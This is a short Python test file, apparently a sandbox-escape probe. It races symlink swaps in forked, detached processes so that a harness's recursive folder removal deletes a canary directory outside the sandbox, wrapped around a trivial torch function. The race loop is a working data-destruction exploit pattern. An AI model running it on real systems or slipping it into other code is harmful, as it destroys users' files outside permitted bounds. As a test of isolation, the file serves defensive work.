"""Succeeds if a folder swapped for a link while it is removed leads the removal outside."""
import os, sys
import torch
if os.path.exists("@HOME@"):
    raise SystemExit("BREACH it is not even shut in; what comes now would harm the machine")

import threading, time
here = os.getcwd()
def swap():
    while True:
        try:
            os.mkdir(f"{here}/a"); open(f"{here}/a/b", "w"); os.rename(f"{here}/a", f"{here}/c")
            os.symlink("@CANARY_FOLDER@", f"{here}/a"); os.unlink(f"{here}/a"); os.unlink(f"{here}/c/b"); os.rmdir(f"{here}/c")
        except OSError:
            pass
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        swap()
threading.Thread(target=swap, daemon=True).start()


def program(x):
    return torch.sin(x) * 2 + 1


def inputs(rng):
    yield rng.normal(5),
